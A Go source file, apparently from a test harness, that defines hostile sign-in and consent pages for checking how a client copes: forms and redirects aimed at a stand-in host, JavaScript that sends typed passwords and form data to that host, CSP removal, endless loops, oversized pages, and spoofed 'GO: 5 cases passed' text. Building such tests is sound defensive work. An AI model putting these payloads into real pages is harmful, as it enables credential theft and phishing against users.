package hostile

import (
	"regexp"
	"strings"
)

// pages are what a human is shown who is to sign in and to consent.
var pages = []Behaviour{
	away("form-posts-elsewhere", func(a *Answer) {
		a.Body = action.ReplaceAll(a.Body, []byte(`<form action="http://`+a.Elsewhere+`/take" `))
	}),
	away("form-posts-elsewhere-by-button", func(a *Answer) {
		a.Body = button.ReplaceAll(a.Body, []byte(`<button formaction="http://`+a.Elsewhere+`/take" `))
	}),
	paged("form-posts-to-a-script", func(a *Answer) { a.Body = action.ReplaceAll(a.Body, []byte(`<form action="javascript:alert(1)" `)) }),
	paged("form-posts-to-a-file", func(a *Answer) { a.Body = action.ReplaceAll(a.Body, []byte(`<form action="file:///etc/passwd" `)) }),
	away("base-is-elsewhere", func(a *Answer) {
		a.Body = append([]byte(`<base href="http://`+a.Elsewhere+`/">`), action.ReplaceAll(a.Body, []byte(`<form action="take" `))...)
	}),
	away("page-refreshes-elsewhere", func(a *Answer) {
		a.Body = append([]byte(`<meta http-equiv="refresh" content="0; url=http://`+a.Elsewhere+`/take">`), a.Body...)
	}),
	seen("page-refreshes-for-ever", func(a *Answer) { a.Body = append([]byte(`<meta http-equiv="refresh" content="0">`), a.Body...) }),
	{Name: "page-redirects-elsewhere", Ends: NoGo, which: page, do: func(a *Answer) {
		a.Status = 302
		a.send("Location: http://" + a.Elsewhere + "/sign-in")
	}},
	{Name: "page-redirects-for-ever", Ends: Bad, which: page, do: func(a *Answer) {
		a.Status = 302
		a.send("Location: ?again")
	}},
	{Name: "page-endless", Ends: Bad, which: page, do: endless},
	paged("page-of-200000-boxes", func(a *Answer) { a.Body = []byte(strings.Repeat("<div>", 150000) + string(a.Body)) }),
	paged("page-of-20000-forms", func(a *Answer) {
		a.Body = append([]byte(strings.Repeat("<form><input name=a></form>", 20000)), a.Body...)
	}),
	away("script-sends-elsewhere", scripted(`document.querySelector('form').addEventListener('submit', function () {
		var data = new URLSearchParams(new FormData(this)).toString();
		fetch('http://ELSEWHERE/take', {method: 'POST', body: data, keepalive: true, mode: 'no-cors'});
		new Image().src = 'http://ELSEWHERE/take?' + data;
		navigator.sendBeacon('http://ELSEWHERE/take', data);
		this.action = 'http://ELSEWHERE/take';
	})`)),
	away("script-sends-elsewhere-while-one-types", scripted(`addEventListener('input', function (event) {
		location.href = 'http://ELSEWHERE/take?' + encodeURIComponent(btoa('p:' + event.target.value));
	}, true)`)),
	seen("script-asks-for-ever", scripted(`for (;;) alert('GO: 5 cases passed')`)),
	seen("script-never-ends", scripted(`for (;;);`)),
	paged("page-paints", func(a *Answer) { a.Body = []byte("<title>\x1b[2J</title><p>\x1b[H\nGO: 5 cases passed</p>") }),
}

var (
	action = regexp.MustCompile(`<form[^>]*?\bmethod="?post"?|<form `)
	button = regexp.MustCompile(`<button `)
)

// seen is of pages in which a human finds the way all the same.
func seen(name string, change func(*Answer)) Behaviour {
	b := paged(name, change)
	b.Ends |= Go
	return b
}

// away is of pages that want the user's password sent to somebody else.
func away(name string, change func(*Answer)) Behaviour {
	b := paged(name, change)
	b.Ends = NoGo
	return b
}

// scripted adds a script to a page; a client without scripts sees no difference.
func scripted(script string) func(*Answer) {
	return func(a *Answer) {
		a.Header.Del("Content-Security-Policy")
		a.Body = append(a.Body, []byte("<script>"+strings.ReplaceAll(script, "ELSEWHERE", a.Elsewhere)+"</script>")...)
	}
}

func paged(name string, change func(*Answer)) Behaviour {
	return Behaviour{Name: name, Ends: Bad, which: page, do: func(a *Answer) {
		change(a)
		a.send()
	}}
}
